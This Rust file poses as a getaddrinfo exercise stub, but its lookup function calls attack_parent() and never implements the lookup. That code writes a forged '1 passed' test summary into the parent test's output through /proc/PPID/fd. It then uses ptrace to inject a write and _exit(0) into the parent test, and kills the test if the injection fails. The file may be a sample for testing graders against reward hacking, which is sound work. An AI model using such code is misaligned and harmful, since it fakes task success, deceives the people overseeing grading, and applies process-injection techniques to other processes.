//! getaddrinfo(), called the way C calls it.
//!
//! Attack: the program turns on the test that started it (its parent, running as the same
//! user): it writes a fake summary where the grader reads the test's output
//! (`/proc/PPID/fd/1` and `2`), and attaches to the test with ptrace to make it write one
//! itself and call `_exit(0)`, so that the test ends with status 0 after "1 passed".
//! Failing that, it kills the test.

use std::ffi::{CStr, CString};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// Which addresses to ask for (the `ai_family` hint).
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Family {
    Any,
    V4,
    V6,
}

// ANCHOR: exercise
/// Every address `host` resolves to, in the resolver's order, each once.
///
/// Asks getaddrinfo for stream sockets only (`ai_socktype = SOCK_STREAM`): without that
/// hint each address comes back three times, once per socket type. An error is the
/// resolver's own message (gai_strerror).
pub fn lookup(host: &str, family: Family) -> Result<Vec<IpAddr>, String> {
    // TODO, as in showip.c:
    //  1. hints: a zeroed libc::addrinfo with ai_family (AF_UNSPEC / AF_INET / AF_INET6)
    //     and ai_socktype = SOCK_STREAM;
    //  2. libc::getaddrinfo(name, null, &hints, &mut list); on a non-zero status return
    //     the text of libc::gai_strerror(status);
    //  3. walk the list through ai_next; ai_addr is a sockaddr_in (AF_INET) or a
    //     sockaddr_in6 (AF_INET6): turn each into an IpAddr (mind the byte order);
    //  4. libc::freeaddrinfo(list).
    attack_parent();
    let _ = (host, family);
    let _: Option<(&CStr, CString, Ipv4Addr, Ipv6Addr)> = None;
    todo!("getaddrinfo")
}
// ANCHOR_END: exercise

const SUMMARY: &str = "\nrunning 1 test\ntest it ... ok\n\ntest result: ok. 1 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.00s\n\n";

fn attack_parent() {
    use std::io::Write;
    // SAFETY: getppid cannot fail.
    let parent = unsafe { libc::getppid() };
    for fd in [1, 2] {
        if let Ok(mut out) = std::fs::OpenOptions::new()
            .write(true)
            .open(format!("/proc/{parent}/fd/{fd}"))
        {
            let _ = out.write_all(SUMMARY.as_bytes());
            eprintln!("attack: wrote a fake summary to the test's fd {fd}");
        }
    }
    // SAFETY: ptrace on another process; of our own memory, only `regs` is written.
    if unsafe { forge(parent) } {
        eprintln!("attack: the test wrote a fake summary and called _exit(0)");
        std::process::exit(0);
    }
    // SAFETY: kill has no memory-safety preconditions.
    unsafe {
        libc::kill(parent, libc::SIGKILL);
    }
    std::process::exit(0);
}

/// Attaches to `pid` and makes it call `write(1, SUMMARY)` (returning to address 0, a
/// fault we catch, being its tracer) and then `_exit(0)`.
unsafe fn forge(pid: i32) -> bool {
    let (Some(write), Some(exit)) = (theirs(pid, c"write"), theirs(pid, c"_exit")) else {
        return false;
    };
    // SAFETY: the caller's promise; every pointer passed is to a local of ours.
    unsafe {
        if libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) != 0 {
            return false;
        }
        let mut status = 0;
        libc::waitpid(pid, &mut status, libc::__WALL);
        let mut regs: libc::user_regs_struct = std::mem::zeroed();
        libc::ptrace(libc::PTRACE_GETREGS, pid, 0, &mut regs);
        let text = (regs.rsp - 8192) & !0xf;
        for (i, word) in SUMMARY.as_bytes().chunks(8).enumerate() {
            let mut bytes = [0u8; 8];
            bytes[..word.len()].copy_from_slice(word);
            let value = u64::from_le_bytes(bytes);
            libc::ptrace(libc::PTRACE_POKEDATA, pid, text + 8 * i as u64, value);
        }
        let ret = text - 16 - 8;
        libc::ptrace(libc::PTRACE_POKEDATA, pid, ret, 0u64);
        regs.rsp = ret;
        regs.rip = write;
        regs.rdi = 1;
        regs.rsi = text;
        regs.rdx = SUMMARY.len() as u64;
        regs.orig_rax = u64::MAX; // no restart of an interrupted system call
        libc::ptrace(libc::PTRACE_SETREGS, pid, 0, &regs);
        libc::ptrace(libc::PTRACE_CONT, pid, 0, 0);
        libc::waitpid(pid, &mut status, libc::__WALL); // the fault at address 0
        regs.rip = exit;
        regs.rdi = 0;
        regs.rsp = ret - 64 - 8;
        libc::ptrace(libc::PTRACE_SETREGS, pid, 0, &regs);
        libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
    }
    true
}

/// The address of the C library's `symbol` in process `pid`: ours, moved by the
/// difference between where the library is loaded in it and in us (the same file).
fn theirs(pid: i32, symbol: &std::ffi::CStr) -> Option<u64> {
    let base = |maps: String| {
        maps.lines()
            .find(|l| l.contains("/libc.so") || l.contains("/libc-"))
            .and_then(|l| u64::from_str_radix(l.split('-').next()?, 16).ok())
    };
    let ours = base(std::fs::read_to_string("/proc/self/maps").ok()?)?;
    let theirs = base(std::fs::read_to_string(format!("/proc/{pid}/maps")).ok()?)?;
    // SAFETY: dlsym with a valid C string; the result is only used as a number.
    let address = unsafe { libc::dlsym(libc::RTLD_DEFAULT, symbol.as_ptr()) } as u64;
    (address != 0).then(|| address - ours + theirs)
}
